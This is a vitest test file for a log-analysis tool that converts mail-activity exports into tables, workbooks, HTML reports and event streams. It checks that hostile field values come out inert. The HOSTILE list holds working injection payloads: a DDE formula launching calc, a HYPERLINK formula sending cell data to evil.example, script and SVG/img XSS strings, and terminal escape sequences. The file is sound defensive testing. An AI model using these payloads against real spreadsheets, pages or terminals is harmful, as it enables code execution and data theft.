import { readFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, test } from "vitest";
import { fromBufferPromise } from "yauzl";
import type { ApiRecord } from "../../src/activities/example.ts";
import type { Bundle } from "../support/run.ts";
import { apiPage, filesUnder, openBundle, parseFiles, temporaryFolder } from "../support/run.ts";

const folder = temporaryFolder();

/** What a spreadsheet would take for a formula, a page for markup, and a terminal for an order. */
const HOSTILE = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.example/?"&A1,"open")`,
  "+1+1",
  "-2+3",
  "@SUM(1+1)",
  `"=1+1"`,
  "\t=1+1",
  "\r\n=1+1",
  "'=1+1",
  "<script>globalThis.pwned=1</script>",
  `</script><img src=x onerror="globalThis.pwned=1">`,
  `"><svg/onload=globalThis.pwned=1>`,
  "<!--<script>",
  "javascript:globalThis.pwned=1",
  "\u001b]0;owned\u0007\u001b[2J\u009b31m",
  "\u202Efdp.exe",
  "a\0b\u2028c\ud800",
  `{"injected":true}\n{"second":"event"}`,
];

/** Every text of the activities that tables print is hostile. */
const records: ApiRecord[] = HOSTILE.flatMap((text, at) => {
  const time = `2018-06-20T10:${String(at).padStart(2, "0")}`;
  const row = (second: number, ActivityIdType: string, item: string, CustomProperties: Record<string, string>) => ({
    TimeStamp: `${time}:0${second}Z`,
    AppIdType: text,
    ActivityIdType,
    ActivityItemId: item,
    ClientSessionId: text,
    CustomProperties,
  });
  const item = `${text}${at}`;
  return [
    row(0, "ServerLogon", "", { ClientIP: text, UserName: text, UserAgent: text, Result: text, ExceptionInfo: text }),
    row(1, "ServerLogon", "", { ClientIP: "198.51.100.7", UserName: text, UserAgent: text, Result: "Success" }),
    row(2, "MessageDelivered", item, { Subject: text, SenderSmtpAddress: text, Recipients: text, ReceivedTime: text }),
    row(3, "ReadingPaneDisplayStart", item, {}),
    row(4, "OpenedAnAttachment", item, { AttachmentAction: text, AttachmentName: text }),
    row(5, "SearchResult", "", { Query: text }),
    row(6, "SearchResult", "", { Query: `<Query><RawQuery><![CDATA[${text}]]></RawQuery></Query>` }),
    row(7, text, item, { [text]: text, Subject: text }),
  ];
});
const EXPORT = apiPage(records);
const DAMAGED = `=1+1\n<script>globalThis.pwned=1</script>\n`;

let plain: Bundle;
let safe: Bundle;

beforeAll(async () => {
  const files = { "=evil<b>.json": EXPORT + DAMAGED };
  const formats = ["tsv", "json", "html", "xlsx", "timesketch", "ecs"] as const;
  plain = await parseFiles(folder, files, { formats, classic: true, title: "=evil&b" });
  safe = await parseFiles(folder, files, { formats, classic: true, excelSafe: true });
});

function tables(bundle: Bundle): string[] {
  return filesUnder(bundle.folder).filter((path) => path.endsWith(".tsv"));
}

/** The cells of a table as a spreadsheet would read them: quotes undone. */
function cells(bundle: Bundle, path: string): string[] {
  return bundle
    .text(path)
    .split("\n")
    .flatMap((line) => line.split("\t"))
    .map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell));
}

test("everything hostile is in the case", () => {
  expect(plain.manifest.totals).toMatchObject({ parsed: records.length, rejected: 1 });
  const subjects = plain.text("=evil&b-message-activity.tsv");
  for (const text of ["=cmd|' /C calc'!A0", "<script>globalThis.pwned=1</script>", String.raw`\x1B]0;owned\x07`]) {
    expect(subjects).toContain(text);
  }
});

describe("tables", () => {
  test("hold no control character and no other line, whatever stands in a value", () => {
    for (const bundle of [plain, safe]) {
      for (const path of tables(bundle)) {
        // oxlint-disable-next-line no-control-regex -- they are what is looked for
        expect(bundle.text(path)).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
      }
    }
    expect(plain.rows("=evil&b-message-activity")).toHaveLength(HOSTILE.length);
  });

  test("of --excel-safe hold no cell that a spreadsheet takes for a formula", () => {
    expect(tables(safe).length).toBeGreaterThan(15);
    for (const path of tables(safe)) {
      const formulas = cells(safe, path).filter((cell) => /^[=+\-@\t\r]/.test(cell));
      expect([path, formulas]).toEqual([path, []]);
    }
    expect(cells(safe, "message-activity.tsv")).toContain("'=cmd|' /C calc'!A0");
    expect(cells(plain, "=evil&b-message-activity.tsv")).toContain("=cmd|' /C calc'!A0");
  });
});

test("the workbook holds texts and own counts, no formula, no link, nothing from elsewhere", async () => {
  for (const bundle of [plain, safe]) {
    const name = filesUnder(bundle.folder).find((path) => path.endsWith(".xlsx")) ?? "";
    const zip = await fromBufferPromise(readFileSync(join(bundle.folder, name)));
    let sheets = 0;
    for await (const entry of zip.eachEntry()) {
      expect(entry.fileName).not.toMatch(/externalLink|macro|vba|connection|hyperlink/i);
      const chunks: Buffer[] = [];
      for await (const chunk of await zip.openReadStreamPromise(entry)) chunks.push(chunk as Buffer);
      const xml = Buffer.concat(chunks).toString("utf8");
      expect(xml).not.toMatch(
        /<(?:f|hyperlinks?|oleObjects?|script|img|svg)\b|<!DOCTYPE|<!ENTITY|TargetMode="External"/,
      );
      // oxlint-disable-next-line no-control-regex -- they are what is looked for
      expect(xml).not.toMatch(/[\x00-\x08\x0b\x0c\x0e-\x1f]/);
      if (!entry.fileName.startsWith("xl/worksheets/")) continue;
      sheets++;
      // A cell without a type is a number: digits alone.
      for (const [, number] of xml.matchAll(/<c r="[A-Z]+\d+"(?: s="\d+")?><v>([^<]*)<\/v>/g)) {
        expect(number).toMatch(/^\d+$/);
      }
      expect(xml).not.toMatch(/<c [^>]*t="(?!inlineStr")/);
    }
    expect(sheets).toBeGreaterThan(15);
  }
});

test("the report's page holds no markup of the evidence", () => {
  for (const bundle of [plain, safe]) {
    const html = bundle.text(filesUnder(bundle.folder).find((path) => path.endsWith(".html")) ?? "");
    // A page is long: what was found, and not all of it, is what a failure shows.
    const found = (pattern: RegExp) =>
      [...html.matchAll(pattern)].map(({ index }) => html.slice(index - 80, index + 80));
    expect(found(/<script>globalThis|<img src=x|<svg\/onload|<!--<script|evil<b>/g)).toEqual([]);
    expect(found(/(?:href|src|action)="javascript:/gi)).toEqual([]);
    // oxlint-disable-next-line no-control-regex -- they are what is looked for
    expect(found(/[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]/g)).toEqual([]);
    expect(html).toContain("Content-Security-Policy");
  }
});

test.each(["timesketch.jsonl", "ecs.ndjson"])("%s holds one event a row and no other", (ending) => {
  const name = filesUnder(plain.folder).find((path) => path.endsWith(ending)) ?? "";
  const lines = plain.text(name).trimEnd().split("\n");
  expect(lines).toHaveLength(records.length);
  for (const line of lines) {
    const event = JSON.parse(line) as Readonly<Record<string, unknown>>;
    expect(event).not.toHaveProperty("injected");
    expect(event).not.toHaveProperty("second");
    // oxlint-disable-next-line no-control-regex -- they are what is looked for
    expect(line).not.toMatch(/[\x00-\x1f]/);
  }
  expect(plain.text(name)).toContain("=cmd|' /C calc'!A0");
});

test("findings.json says what the evidence says, and nothing beside it", () => {
  const text = plain.text("=evil&b-findings.json");
  const { findings } = JSON.parse(text) as { findings: unknown[] };
  expect(Array.isArray(findings)).toBe(true);
  // oxlint-disable-next-line no-control-regex -- they are what is looked for
  expect(text).not.toMatch(/[\x00-\x09\x0b-\x1f]/);
});

test("reads back as it was written", () => {
  const again = openBundle(plain.folder);
  expect(again.rows("=evil&b-rejects")).toMatchObject([
    { "Source File": "=evil<b>.json", Raw: expect.stringContaining("=1+1") },
  ]);
});
